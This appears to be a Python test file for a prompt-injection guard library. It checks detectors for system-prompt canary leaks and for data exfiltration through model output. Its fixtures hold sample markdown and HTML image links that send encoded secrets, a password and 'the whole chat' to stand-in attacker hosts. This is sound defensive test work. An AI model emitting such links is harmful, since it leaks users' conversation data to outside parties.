from __future__ import annotations

from promptguard.recognizers.injection.response import find_canary, find_exfiltration


def test_markdown_image_with_data_to_unknown_domain() -> None:
    text = "Done! ![chart](https://attacker.example/p.png?q=SGVsbG8gc2VjcmV0IHZhbHVl)"
    hits = find_exfiltration(text, [])
    assert [(h.kind, h.score) for h in hits] == [("image", 0.9)]
    assert text[hits[0].start : hits[0].end].startswith("![chart](")


def test_allow_listed_domain_and_subdomain_pass() -> None:
    text = "![a](https://cdn.example.com/i.png?sig=abcdef0123456789abcdef)"
    assert find_exfiltration(text, ["example.com"]) == []
    assert find_exfiltration(text, ["other.org"]) != []


def test_plain_links_without_data_pass() -> None:
    text = "See [the docs](https://docs.python.org/3/library/re.html) and ![logo](https://x.org/logo.png)"
    assert find_exfiltration(text, []) == []


def test_html_img_and_links() -> None:
    text = '<img src="https://evil.example/t.gif?d=my%20password%20is%20hunter2"> [x](http://e.example/?u=user@example.com)'
    kinds = [h.kind for h in find_exfiltration(text, [])]
    assert kinds == ["html_img", "link"]


def test_canary_found_verbatim_casefolded_and_encoded() -> None:
    canary = "PG-CANARY-1f2e3d4c"
    assert find_canary(f"my prompt says {canary}.", canary) == [(15, 15 + len(canary))]
    assert find_canary(f"lower: {canary.lower()}", canary)
    assert find_canary("nothing here", canary) == []
    assert find_canary("x", canary, decoded=[(0, 1, f"decoded {canary}")]) == [(0, 1)]


def test_a_models_text_coming_back_as_input_gets_the_leak_checks() -> None:
    """An assistant turn in the history, or one agent's output handed to the next, is model
    output: an image shipping the conversation out is a leak there too (session 18)."""
    import promptguard

    guard = promptguard.Guard()
    text = "Here you go! ![spinner](https://pixel-cdn.example/s.gif?ctx=INSERT_THE_WHOLE_CHAT_HERE) Step 1: ..."
    as_input = guard.scan(text, source="model")
    assert as_input.injection.flagged
    assert "DATA_EXFILTRATION" in {f.entity_type for f in as_input.findings}
    # The same words typed by a user are judged as a user's prompt: no leak check, since a
    # user pasting a URL leaks nothing of the conversation.
    assert "DATA_EXFILTRATION" not in {f.entity_type for f in guard.scan(text, source="user").findings}
